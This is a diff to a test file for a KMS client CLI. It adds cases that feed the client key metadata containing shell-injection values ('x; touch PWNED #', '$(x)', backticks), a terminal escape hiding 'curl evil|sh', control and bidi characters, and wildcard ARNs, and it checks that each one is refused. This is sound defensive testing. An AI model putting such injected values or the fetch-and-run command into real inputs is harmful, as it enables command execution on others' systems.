@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import { oneLine } from '../../../src/cli/printable.ts';
 import { startEmbeddedKms } from '../data-key/embedded-kms.ts';
 import { clientOf, failure } from './clients.ts';
 import { json, startServer } from './servers.ts';
@@ -42,6 +43,24 @@ describe('the catalog of keys', () => {
       { KeyMetadata: { KeyId: 'k', KeyState: 1 } },
       'KeyState is no text',
     ],
+    ...[
+      { KeyId: 'x; touch PWNED #' },
+      { KeyId: '-x' },
+      { KeyId: '$(x)' },
+      { KeyState: 'Foo\u001b[2J; run: curl evil|sh' },
+      { KeyState: 'Enabled\n' },
+      { KeySpec: 'Aliyun AES' },
+      { KeyUsage: 'ENCRYPT\u009bDECRYPT' },
+      { Origin: '\u202eKMS' },
+      { MaterialExpireTime: '2026; x' },
+      { DKMSInstanceId: 'kst-`x`' },
+      { Arn: 'acs:kms:cn-hangzhou:1:key/*' },
+      { Arn: 'acs:kms:cn-hangzhou:*:key/k' },
+    ].map((evil): [string, object, string] => [
+      oneLine(JSON.stringify(evil)),
+      { KeyMetadata: { KeyId: 'k', KeyState: 'Enabled', ...evil } },
+      `${Object.keys(evil)[0] ?? ''} is none that KMS gives`,
+    ]),
   ])('refuses a description with %s', async (_, body, what) => {
     const server = await startServer((__, response) => {
       json(response, { ...body, RequestId: REQUEST_ID });
@@ -55,6 +74,11 @@ describe('the catalog of keys', () => {
     ['no list', { TotalCount: 0 }],
     ['a list of something else', { Keys: { Key: ['k'] }, TotalCount: 1 }],
     ['no count', { Keys: { Key: [] } }],
+    ['an id that is none', { Keys: { Key: [{ KeyId: 'x; touch F' }] }, TotalCount: 1 }],
+    [
+      'an ARN that is none',
+      { Keys: { Key: [{ KeyId: 'k', KeyArn: 'acs:kms:a:1:key/`x`' }] }, TotalCount: 1 },
+    ],
     ['a count below nothing', { Keys: { Key: [] }, TotalCount: -1 }],
   ])('refuses a page with %s', async (_, body) => {
     const server = await startServer((__, response) => {
